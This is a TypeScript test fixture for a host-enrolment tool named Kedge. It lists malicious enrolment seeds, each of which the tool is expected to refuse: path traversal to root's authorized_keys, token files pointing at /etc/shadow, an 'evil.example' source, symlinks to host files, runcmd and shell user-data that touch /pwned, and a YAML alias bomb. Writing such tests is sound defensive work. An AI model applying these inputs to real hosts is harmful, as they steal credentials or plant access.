/** What somebody with a stick in the hand, or with the volume of a virtual machine, would like a host to do. */
import type { SeedBench } from '../support/seed-bench.ts';
import type { Listed } from '../table.ts';

export interface SeedAttack extends Listed {
  readonly code: 'ENROLMENT_REFUSED' | 'SCHEMA_INVALID';
  readonly says?: RegExp;
  make(bench: SeedBench): Promise<void>;
}

const REFUSED = { code: 'ENROLMENT_REFUSED' } as const;
const INVALID = { code: 'SCHEMA_INVALID' } as const;

export const SEEDS: readonly SeedAttack[] = [
  {
    name: 'a stick for another fleet is put into an enrolled host',
    ...REFUSED,
    says: /enrolled already/,
    async make(b) {
      await b.put('etc/kedge/host.yaml', 'name: ours\n');
      await b.put('etc/kedge/host.key.asc', 'the key\n');
      await b.volume({ 'kedge/enrol.yaml': b.enrol() });
    },
  },
  {
    name: 'the same, where host.yaml is gone for a while and the host remembers its fleet',
    ...REFUSED,
    says: /remembers a fleet/,
    async make(b) {
      await b.put('var/lib/kedge/state.json', '{}');
      await b.volume({ 'kedge/enrol.yaml': b.enrol() });
    },
  },
  {
    name: 'a cloud’s volume with another fleet is attached to an enrolled host',
    ...REFUSED,
    says: /enrolled already/,
    async make(b) {
      await b.put('etc/kedge/host.yaml', 'name: ours\n');
      await b.volume({ 'user-data': `#cloud-config\nkedge:\n${b.enrol().replace(/^/gm, '  ')}\n`, 'meta-data': '' });
    },
  },
  {
    name: 'the seed brings the private key of the host, and keeps a copy',
    ...INVALID,
    make: (b) => b.volume({ 'kedge/enrol.yaml': b.enrol({ rest: 'files: { host.key.asc: known }\n' }) }),
  },
  {
    name: 'the seed names where the key lies',
    ...REFUSED,
    says: /host\.key/,
    make: (b) => b.volume({ 'kedge/enrol.yaml': b.enrol({ host: '  key: /media/key.asc\n' }) }),
  },
  {
    name: 'a file of the seed has a path that leads out of /etc/kedge',
    ...INVALID,
    make: (b) =>
      b.volume({ 'kedge/enrol.yaml': b.enrol({ rest: 'files: { "../../root/.ssh/authorized_keys": k }\n' }) }),
  },
  {
    name: 'a source asks for a file of the host as its token',
    ...REFUSED,
    says: /\/etc\/shadow does not come with the seed/,
    make: (b) =>
      b.volume({
        'kedge/enrol.yaml': b.enrol({
          host: '  inventory: { url: "https://evil.example/x.git", tokenFile: /etc/shadow }\n',
        }),
      }),
  },
  {
    name: 'the same, by a path through the folder of the seed’s own files',
    ...REFUSED,
    says: /does not come with the seed/,
    make: (b) =>
      b.volume({
        'kedge/enrol.yaml': b.enrol({
          host: '  registries: { "evil.example": { authFile: /etc/kedge/../shadow } }\n',
        }),
      }),
  },
  {
    name: 'user-data is a script',
    ...REFUSED,
    says: /no cloud-config/,
    make: (b) => b.volume({ 'user-data': '#!/bin/sh\ntouch /pwned\n', 'meta-data': '' }),
  },
  {
    name: 'user-data has commands to run beside the enrolment',
    ...INVALID,
    says: /runcmd/,
    make: (b) =>
      b.volume({
        'user-data': `#cloud-config\nruncmd: [touch /pwned]\nkedge:\n${b.enrol().replace(/^/gm, '  ')}\n`,
        'meta-data': 'instance-id: a\n',
      }),
  },
  {
    name: 'the seed is a link to a file of the host',
    ...REFUSED,
    says: /is a link/,
    make: (b) => b.link('kedge/enrol.yaml', '/etc/shadow'),
  },
  {
    name: 'the folder of the seed is a link to a folder of the host',
    ...REFUSED,
    says: /does not lie in a folder/,
    make: (b) => b.link('kedge', '/etc'),
  },
  {
    name: 'the seed is a pipe that nobody ever writes to',
    ...REFUSED,
    says: /no plain file/,
    make: (b) => b.pipe('user-data'),
  },
  {
    name: 'the seed never ends',
    ...REFUSED,
    says: /is larger than/,
    make: (b) => b.volume({ 'kedge/enrol.yaml': Buffer.alloc(300 * 1024, '#') }),
  },
  {
    name: 'the seed is a bomb of aliases',
    ...INVALID,
    async make(b) {
      const lines = Array.from({ length: 12 }, (_, i) => `a${i + 1}: &a${i + 1} [${`*a${i},`.repeat(9)}]`);
      await b.volume({ 'kedge/enrol.yaml': `a0: &a0 x\n${lines.join('\n')}\n` });
    },
  },
  {
    name: 'the volume holds two seeds, for two readers',
    ...REFUSED,
    says: /two seeds/,
    make: (b) =>
      b.volume({
        'kedge/enrol.yaml': b.enrol(),
        'user-data': `#cloud-config\nkedge:\n${b.enrol().replace(/^/gm, '  ')}\n`,
      }),
  },
  {
    name: 'the seed has a key that no version of Kedge knows',
    ...INVALID,
    make: (b) => b.volume({ 'kedge/enrol.yaml': b.enrol({ rest: 'trustEverybody: true\n' }) }),
  },
];
